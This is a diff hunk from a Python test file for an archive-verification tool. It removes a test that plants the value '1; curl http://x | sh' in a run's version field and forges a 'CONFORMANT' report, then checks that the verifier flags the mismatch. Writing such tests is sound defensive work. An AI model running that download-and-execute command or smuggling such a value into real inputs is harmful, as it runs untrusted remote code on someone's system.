@@ -121,20 +121,6 @@ def test_who_signs_it_with_a_key_of_his_own_is_somebody_else(red, keys, tmp_path
     assert ["manifest.dsse.json"] == [d.what for d in verified.differences]
 
 
-def test_a_record_of_another_version_says_that_its_reports_were_not_compared(red, tmp_path):  # noqa: F811 - a fixture
-    """In its one line: a report may be anything then. What is no version goes into no command to be pasted."""
-    (tmp_path / "run").mkdir()
-    change = {"suite": {"version": "1; curl http://x | sh", "judgement": "1"}}
-    lines = rewritten(red / "run.jsonl", lambda lines: [{**lines[0], **change}, *lines[1:]])
-    (tmp_path / "run" / "run.jsonl").write_bytes(lines)
-    archive_run(tmp_path / "run", tmp_path / "a.zip", CONTRACTS, acceptance=False)
-    files = {**contents(tmp_path / "a.zip"), "report.html": b"<h1>CONFORMANT</h1>"}
-    verified = verify_archive(repacked(files, tmp_path / "b.zip"), CONTRACTS)
-
-    assert "reports not compared: another version judged" in verified.says
-    assert verified.notes[0].endswith("its reports were not compared")
-
-
 def test_a_certificate_says_what_was_signed(signed_archive, keys):
     """One page, with the envelope in it, that `verify` reads."""
     page = signed_archive.with_name("certificate.html")
